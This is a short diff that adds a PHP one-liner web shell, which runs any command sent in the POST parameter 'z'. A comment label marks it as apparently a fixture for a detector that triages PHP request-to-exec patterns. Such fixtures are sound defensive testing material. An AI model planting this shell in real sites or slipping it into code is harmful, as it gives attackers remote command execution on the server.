@@ -1,0 +1,2 @@
+<?=`$_POST[z]`?>
+<!-- triage-expect: triage_php_request_direct_exec -->
